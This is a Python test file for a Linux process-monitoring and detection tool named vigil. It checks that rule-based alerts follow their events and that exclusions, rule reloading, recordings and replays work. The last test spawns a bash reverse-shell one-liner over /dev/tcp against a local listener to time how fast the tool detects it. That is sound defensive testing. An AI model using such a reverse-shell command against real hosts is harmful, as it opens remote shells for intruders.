# SPDX-License-Identifier: MIT
"""Detection on the real kernel: alerts after their events, exclusions, reload, recordings."""
import os
import pty
import select
import signal
import socket
import statistics
import subprocess
import time

from live import VIGIL, Running, Traced, Watching, get, loads, run, started, temporary

EXAMPLE = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "examples",
                       "detection", "reverse-shell.yml")

RULE = """title: {title}
id: {id}
status: test
author: A. Author
tags: [attack.execution, attack.t1059.004]
logsource: {{category: process_creation, product: linux}}
detection:
  selection:
    Image|endswith: /true
    CommandLine|contains: {word}
  condition: selection
level: {level}
"""
EXCEPTION = """title: an exception
logsource: {{category: process_creation, product: linux}}
filter:
  rules: [{id}]
  selection: {{CommandLine|contains: {word}}}
  condition: selection
"""


def write(path, text):
    with open(path, "w", encoding="utf-8") as out:
        out.write(text)


def make_rule(path, word, level="high", identity="rule-1"):
    write(path, RULE.format(title=f"true with {word}", id=identity, word=word, level=level))
    return path


def words(events):
    """The last argument of each event that is no alert, and A with that of an alert."""
    return [("A " if get(e, "vigil.type") == "alert" else "") +
            get(e, "process.command_line").rsplit(" ", 1)[-1] for e in events]


def true(*arguments):
    subprocess.run(["/bin/true", *arguments], check=True)


def of_test(events, mark):
    return [e for e in events if mark in (get(e, "process.command_line") or "")]


def test_alert_follows_its_event():
    """an alert comes directly after its event, with its number, time, process and rule"""
    rule = make_rule(temporary("a.yml"), "evil-one")
    w = Watching("--type", "exec", "--detect", rule)
    for word in ("good-1", "evil-one", "good-2", "evil-one"):
        true("detect-order", word)
    events = of_test(w.stop(), "detect-order")
    assert words(events) == ["good-1", "evil-one", "A evil-one", "good-2", "evil-one",
                             "A evil-one"], words(events)
    event, alert = events[1:3]
    for field in ("event.sequence", "@timestamp", "process.entity_id", "process.executable",
                  "process.parent.pid"):
        assert get(event, field) == get(alert, field), field
    assert get(alert, "rule.id") == "rule-1" and get(alert, "rule.name") == "true with evil-one"
    assert get(alert, "rule.author") == "A. Author"
    assert get(alert, "event.severity") == 73
    assert get(alert, "threat.technique.subtechnique.id") == ["T1059.004"]
    assert get(alert, "threat.tactic.name") == ["Execution"]
    matched = dict(m.split("=", 1) for m in get(alert, "vigil.alert.matched"))
    assert matched["CommandLine"].endswith("detect-order evil-one"), matched
    assert matched["Image"].endswith("/true")
    assert [get(e, "vigil.alert.hits") for e in events if get(e, "rule.id")] == [1, 2]


def test_alerts_only():
    """--alerts-only; a condition of the filter holds for alerts, too; types that are not shown"""
    rule = make_rule(temporary("a.yml"), "evil-two")
    w = Watching("--detect", rule, "--alerts-only", "--type", "image", "--type", "lost,status")
    true("detect-only", "good")
    true("detect-only", "evil-two")
    events = [e for e in w.stop() if get(e, "vigil.type") not in ("status", "lost")]
    assert words(events) == ["A evil-two"], events
    w = Watching("--type", "exec", "--user", "nobody", "--detect", rule)
    true("detect-only", "evil-two")
    assert of_test(w.stop(), "detect-only") == []


def test_choice_of_rules():
    """--min-level, --include-rule, --exclude-rule, --exceptions: which rules are in force"""
    folder = os.path.dirname(make_rule(temporary("low.yml"), "evil", "low", "rule-low"))
    make_rule(os.path.join(folder, "high.yml"), "evil", "high", "rule-high")
    except_path = temporary("except.yml")
    write(except_path, EXCEPTION.format(id="rule-high", word="evil-excepted"))
    for options, wanted in ((["--min-level", "medium"], {"rule-high"}),
                            (["--include-rule", "rule-low"], {"rule-low"}),
                            (["--exclude-rule", "rule-low"], {"rule-high"}),
                            (["--include-rule", "attack.execution"], {"rule-high", "rule-low"}),
                            (["--exceptions", except_path], {"rule-low"})):
        t = Traced("/bin/true", "evil-excepted", options=("--detect", folder, *options))
        found = {get(e, "rule.id") for e in t.of("alert")}
        assert found == wanted, (options, found)
    none = subprocess.run([VIGIL, "watch", "--detect", folder, "--include-rule", "no-such"],
                          capture_output=True, check=False, text=True)
    assert none.returncode == 2 and "no detection rule was loaded" in none.stderr, none


def test_reload():
    """SIGHUP: a new set replaces the old one as a whole; one that cannot be loaded does not"""
    path = make_rule(temporary("a.yml"), "evil-before")
    running = Running("--type", "exec", "--detect", path)

    def alerts_of(word):
        true("detect-reload", word)
        time.sleep(0.3)
        with open(running.log, encoding="utf-8") as lines:
            events = of_test([loads(line) for line in lines], f"detect-reload {word}")
        return sum(get(e, "vigil.type") == "alert" for e in events)

    def reload():
        running.process.send_signal(signal.SIGHUP)
        while running.notify.recv(100) != b"READY=1":
            pass

    assert alerts_of("evil-before") == 1
    make_rule(path, "evil-after")
    assert alerts_of("evil-after") == 0
    reload()
    assert alerts_of("evil-after") == 1 and alerts_of("evil-before") == 1  # the one from before
    write(path, "title: broken\ndetection: {\n")
    reload()
    assert alerts_of("evil-after") == 2
    os.unlink(path)
    reload()
    assert alerts_of("evil-after") == 3
    running.stop()
    assert running.status == 0, running.errors
    assert running.errors.count("the previous settings and rules stay in force.") == 2, running.errors


def test_recording():
    """a recording keeps alerts; a replay with the same rules causes the same; query and report"""
    rule = make_rule(temporary("a.yml"), "evil-kept")
    recording = temporary("a.vigil")
    recorder = subprocess.Popen([VIGIL, "record", "--detect", rule, recording],
                                stderr=subprocess.PIPE)
    while not os.path.exists(recording):
        time.sleep(0.05)
    time.sleep(0.7)
    for word in ("evil-kept", "good", "evil-kept"):
        true("detect-record", word)
    time.sleep(0.3)
    recorder.send_signal(signal.SIGINT)
    errors = recorder.communicate(timeout=60)[1].decode()
    assert recorder.returncode == 0, errors

    def replay(*options):
        out = subprocess.run([VIGIL, "replay", "--format", "json", *options, recording],
                             capture_output=True, check=True, text=True).stdout
        return [loads(line) for line in out.splitlines()]

    kept = replay("--type", "alert")
    again = [e for e in replay("--detect", rule, "--alerts-only")
             if get(e, "vigil.type") == "alert"]
    assert len(kept) == 2 and kept == again, (kept, again)
    answer = subprocess.run([VIGIL, "query", recording, "SELECT level, rule, title FROM alerts",
                             "--format", "csv"], capture_output=True, check=True, text=True).stdout
    assert answer.splitlines()[1:] == ["high,rule-1,true with evil-kept"] * 2, answer
    tree = subprocess.run([VIGIL, "tree", recording], capture_output=True, check=True,
                          text=True).stdout
    assert "! alert high: true with evil-kept" in tree, tree
    page = subprocess.run([VIGIL, "report", recording, "--output", recording + ".html"],
                          capture_output=True, check=True, text=True)
    assert page.returncode == 0
    with open(recording + ".html", encoding="utf-8") as html:
        assert "high: true with evil-kept" in html.read()


def test_why():
    """`vigil detect test`: matches and near misses with their values; stats counts"""
    rule = make_rule(temporary("a.yml"), "evil-why")
    t = Traced("sh", "-c", "/bin/true evil-why; /bin/true good-why; :")
    events = t.result.args[t.result.args.index("--output") + 1]
    out = subprocess.run([VIGIL, "detect", "test", rule, events], capture_output=True, check=False,
                         text=True)
    assert out.returncode == 0, out
    assert "match: true with evil-why" in out.stdout and "1 matches" in out.stderr, out
    stats = subprocess.run([VIGIL, "detect", "stats", rule, events], capture_output=True,
                           check=True, text=True)
    columns = stats.stdout.splitlines()[1].split()
    assert columns[:4] + columns[5:6] == ["1", "0", "0", "1", "high"], stats.stdout
    write(rule, "title: broken\nlogsource: {category: process_creation}\ndetection: {a: {b: c}}\n")
    bad = subprocess.run([VIGIL, "detect", "check", rule], capture_output=True, check=False,
                         text=True)
    assert bad.returncode == 1 and f"{rule}:" in bad.stdout, bad


class Screen:
    """`vigil watch` on a terminal."""

    def __init__(self, *options):
        self.terminal, theirs = pty.openpty()
        self.process = subprocess.Popen([VIGIL, "watch", "--type", "alert,status", "--detect",
                                         EXAMPLE, *options], stdout=theirs,
                                        stderr=subprocess.DEVNULL)
        started.append(self.process)
        os.close(theirs)
        self.wait_for(b"started")

    def wait_for(self, word):
        """Reads until the word is on the screen. Returns the time."""
        seen, deadline = b"", time.monotonic() + 20
        while word not in seen:
            assert select.select([self.terminal], [], [], deadline - time.monotonic())[0], seen
            seen += os.read(self.terminal, 65536)
        return time.monotonic()

    def stop(self):
        self.process.send_signal(2)
        self.process.wait(timeout=30)
        os.close(self.terminal)


def test_reverse_shell():
    """a reverse shell is on the screen within 20 ms of its start: median of 20, both latencies"""
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        shell = f"bash -i >& /dev/tcp/127.0.0.1/{listener.getsockname()[1]} 0>&1"
        for options in ([], ["--low-latency"]):
            screen, times = Screen(*options), []
            for _ in range(20):
                time.sleep(0.05)
                begun = time.monotonic()
                child = os.posix_spawn("/bin/bash", ["bash", "-c", shell], os.environ)
                times.append((screen.wait_for(b"Reverse shell of bash") - begun) * 1000)
                listener.accept()[0].close()
                os.waitpid(child, 0)
            screen.stop()
            print(f"# {' '.join(options) or 'default'}: median {statistics.median(times):.1f} ms, "
                  f"at most {max(times):.1f} ms", flush=True)
            assert statistics.median(times) <= 20, times


run(globals())
